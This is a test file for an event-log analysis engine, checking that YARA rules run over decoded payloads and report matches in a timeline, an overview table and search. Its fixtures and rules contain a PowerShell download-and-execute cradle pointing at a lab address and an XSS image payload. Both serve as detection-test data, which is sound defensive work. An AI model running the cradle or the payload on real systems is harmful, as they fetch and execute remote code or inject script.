/**
 * YARA over payloads inside the parse job (`run_yara_payloads`): the community YARA rules
 * (here a pack holding one rule written for decoded text) match what events carry, and the
 * matches reach the Key Event Timeline (category `Yara`) and an Overview table. Without the
 * field the job is the spec's, with the same insights.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { writeEvtx } from '../fixtures/evtx-writer/index.js';
import { serve } from '../src/http/index.js';
import type { Insight, TimelineEntry } from '../src/insights/index.js';
import { Engine, type JobStatusResponse } from '../src/service/index.js';
import { rejection, settle } from './helpers/engine-test.js';
import { call } from './helpers/http-client.js';
import { payloadLog, scriptBlockEvent } from './helpers/payload-log.js';
import { smallLog } from './helpers/small-log.js';

/** Written for the decoded text: the log as written holds none of these strings. */
const RULES = `
rule double_encoded_cradle { strings: $a = "DownloadString('http://10.0.13.37/tae-double-stage.ps1')" condition: $a }
rule markup_in_script { strings: $a = "tae-markup-marker" condition: $a }
`;
const MARKUP = '<img src=x onerror=alert(1)> # tae-markup-marker';

const dir = mkdtempSync(join(tmpdir(), 'tae-payloads-job-'));
const pack = join(dir, 'payload-pack');
mkdirSync(pack);
writeFileSync(join(pack, 'decoded.yar'), RULES);
const log = writeEvtx([...payloadLog(), scriptBlockEvent(MARKUP, 900)]);

let engine: Engine;
before(async () => {
  engine = await Engine.open({ memory: true, rules: { builtin: false, packs: [pack], dataDir: false } });
});
after(() => engine.close());

async function job(fields: Record<string, unknown>): Promise<JobStatusResponse> {
  const { file_ids } = await engine.upload({ files: [{ name: 'payloads.evtx', data: log }] });
  const request = { file_ids: [file_ids[0]![0]], run_sigma_rules: false, ...fields };
  const { id } = await engine.createParseJob(request as never);
  const done = await settle(engine, id);
  assert.equal(done.status, 'Completed');
  return done;
}

const YARA_TABLE = 'Overview: YARA Payload Matches';
const isYaraTable = (i: Insight) => 'Table' in i && i.Table.title === YARA_TABLE;

/** The insights with what payload scanning adds taken out. */
/** The insights with the YARA parts taken out (the timeline's sources table renumbered). */
function withoutYara(insights: readonly Insight[]): Insight[] {
  const timeline = insights.find((i) => 'Timeline' in i) as { Timeline: { data: TimelineEntry[] } };
  const keptRows = timeline.Timeline.data.flatMap((e, n) => (e.category === 'Yara' ? [] : [n + 1]));
  return insights
    .filter((i) => !isYaraTable(i))
    .map((i) => {
      if ('Metadata' in i && i.Metadata.title === 'Overview') {
        const { yara_payloads: _, ...data } = i.Metadata.data;
        return { Metadata: { ...i.Metadata, data } };
      }
      if ('Timeline' in i)
        return { Timeline: { ...i.Timeline, data: i.Timeline.data.filter((e) => e.category !== 'Yara') } };
      if ('Table' in i && i.Table.title === 'Key Event Timeline: Sources') {
        const [head, ...rows] = i.Table.data;
        const kept = keptRows.map((n, at) => [String(at + 1), ...rows[n - 1]!.slice(1)]);
        return { Table: { ...i.Table, data: [head!, ...kept] } };
      }
      return i;
    });
}

test('a parse job with run_yara_payloads reports the decoded command matched by a rule written for it, in the timeline and the Overview', async () => {
  const done = await job({ run_yara_payloads: true });
  const insights = done.insights ?? [];
  assert.deepEqual(
    insights.filter((i) => 'Error' in i),
    [],
  );
  const timeline = insights.find((i) => 'Timeline' in i);
  assert.ok(timeline && 'Timeline' in timeline);
  const yara = timeline.Timeline.data.filter((e) => e.category === 'Yara');
  assert.deepEqual(
    yara.map((e) => [e.short_name, e.record_id, e.importance, e.timestamp_start]),
    [
      ['YARA: double_encoded_cradle', 200, 'High', Date.parse('2026-04-02T09:01:00Z')],
      ['YARA: markup_in_script', 900, 'High', Date.parse('2026-04-02T09:10:00Z')],
    ],
  );
  assert.match(
    yara[0]!.description,
    /^YARA rule "double_encoded_cradle" \(payload-pack:decoded\.yar\) matched 1 payload \(encoded-command\) from 1 record on WS-PAYLOAD-01: IEX \(New-Object Net\.WebClient\)/,
  );
  const table = insights.find(isYaraTable);
  assert.ok(table && 'Table' in table);
  assert.deepEqual(table.Table.category, 'Yara');
  assert.deepEqual(table.Table.data, [
    ['Rule', 'Payload kind', 'Decoded', 'Records', 'First seen', 'Computer', 'Preview'],
    [
      'double_encoded_cradle',
      'encoded-command',
      'CommandLine: base64 → utf16le → base64 → utf16le',
      'Sysmon/Operational 1 #200',
      '2026-04-02 09:01:00',
      'WS-PAYLOAD-01',
      "IEX (New-Object Net.WebClient).DownloadString('http://10.0.13.37/tae-double-stage.ps1')",
    ],
    [
      'markup_in_script',
      'script-block',
      'ScriptBlockText',
      'PowerShell/Operational 4104 #900',
      '2026-04-02 09:10:00',
      'WS-PAYLOAD-01',
      MARKUP,
    ],
  ]);
  const overview = insights.find((i) => 'Metadata' in i && i.Metadata.title === 'Overview');
  assert.ok(overview && 'Metadata' in overview);
  assert.match(
    overview.Metadata.data.yara_payloads!,
    /^\d+ payloads scanned \(0\.0 MiB\); 0 repeats not scanned again; 2 payloads matched/,
  );
});

test('without run_yara_payloads (absent or false) the insights are those of today, and with it only the YARA parts are added', async () => {
  const plain = (await job({})).insights ?? [];
  assert.ok(!plain.some(isYaraTable));
  assert.deepEqual((await job({ run_yara_payloads: false })).insights, plain);
  const scanned = (await job({ run_yara_payloads: true })).insights ?? [];
  assert.deepEqual(withoutYara(scanned), plain);
});

test('run_yara_payloads must be a boolean; other unknown fields are still ignored', async () => {
  const { file_ids } = await engine.upload({ files: [{ name: 'small.evtx', data: smallLog() }] });
  const id = file_ids[0]![0];
  const e = await rejection(
    engine.createParseJob({ file_ids: [id], run_sigma_rules: false, run_yara_payloads: 'yes' } as never),
  );
  assert.equal(e.code, 'INVALID_ARGUMENT');
  assert.match(e.message, /run_yara_payloads must be a boolean/);
  const other = await engine.createParseJob({
    file_ids: [id],
    run_sigma_rules: false,
    run_everything: 'please',
  } as never);
  assert.equal((await settle(engine, other.id)).status, 'Completed');
});

test('the HTTP twin takes run_yara_payloads and refuses a non-boolean one as the Engine does', async () => {
  const server = await serve({ engine, port: 0 });
  try {
    const { file_ids } = await engine.upload({ files: [{ name: 'payloads.evtx', data: log }] });
    const file = file_ids[0]![0];
    const path = '/analysis/winevtx/parse';
    const created = await call(server.url, 'POST', path, {
      json: { file_ids: [file], run_sigma_rules: false, run_yara_payloads: true },
    });
    assert.equal(created.status, 200, created.text);
    const done = await settle(engine, JSON.parse(created.text).id);
    assert.ok((done.insights ?? []).some(isYaraTable));
    const refused = await call(server.url, 'POST', path, {
      json: { file_ids: [file], run_sigma_rules: false, run_yara_payloads: 1 },
    });
    assert.equal(refused.status, 400);
    assert.match(refused.text, /run_yara_payloads must be a boolean/);
  } finally {
    await server.close();
  }
});

test('the events whose payloads a YARA rule matched are found by search with yara_matches', async () => {
  const { id } = await engine.createParseJob({
    file_ids: [(await engine.upload({ files: [{ name: 'payloads.evtx', data: log }] })).file_ids[0]![0]],
    run_sigma_rules: false,
    run_yara_payloads: true,
  } as never);
  assert.equal((await settle(engine, id)).status, 'Completed');
  const recordIds = async (filter: { field: string; operator: string; value: string }) => {
    const r = await engine.search({
      job_id: id,
      search: '',
      browse_events: true,
      filter: [filter],
      show: 100,
    } as never);
    const table = r.insights.flatMap((i) => ('IndexTable' in i ? [i.IndexTable] : []))[0];
    return (table?.data ?? []).map(([cells]) => Number(cells[1]));
  };
  assert.deepEqual(
    await recordIds({ field: 'yara_matches', operator: 'equals', value: 'DOUBLE_ENCODED_CRADLE' }),
    [200],
  );
  assert.deepEqual(await recordIds({ field: 'yara_matches', operator: 'contains', value: 'markup' }), [900]);
  const all = await recordIds({ field: 'event_id', operator: 'not_equals', value: '0' });
  const others = await recordIds({ field: 'yara_matches', operator: 'does_not_contain', value: '_' });
  assert.deepEqual(
    others,
    all.filter((r) => r !== 200 && r !== 900),
  );
});
